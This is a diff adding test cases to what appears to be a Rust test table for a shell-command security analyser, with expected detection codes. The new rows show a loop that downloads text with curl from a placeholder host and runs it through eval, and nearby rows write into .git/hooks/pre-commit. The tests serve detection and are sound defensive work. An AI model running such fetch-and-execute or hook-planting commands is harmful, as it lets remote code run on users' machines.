@@ -252,6 +252,9 @@ const CASES: &[(&str, &str)] = &[
     ("set -- a b; read -r o < n; set \"$o\" /etc/hostname; cat \"$1\"", "4004"),
     ("set -- a b; read -r o < n; set \"$o\" b /etc/hostname; cat \"$2\"", "4004"),
     ("set -- a /etc/hostname; read -r o < n; set \"$o\" b c; cat \"$2\"", "0004"),
+    // --- a loop's later passes: what one pass fetched, the next runs -------------------------
+    ("x=true; for i in 1 2; do eval \"$x\"; x=$(curl -s https://x/y); done", "0055"),
+    ("h() { x=$(curl -s https://x/y); }; g() { h; }; x=true; for i in 1 2; do eval \"$x\"; g; done", "0055"),
     // --- return, break and continue leave the state they find ---------------------------------
     ("f() { if [ -n \"$1\" ]; then d=.git/hooks; return; fi; d=ok; }; f x; echo x > \"$d/pre-commit\"", "2006"),
     ("d=a; for i in 1; do d=.git/hooks; break; d=ok; done; echo x > \"$d/pre-commit\"", "2006"),
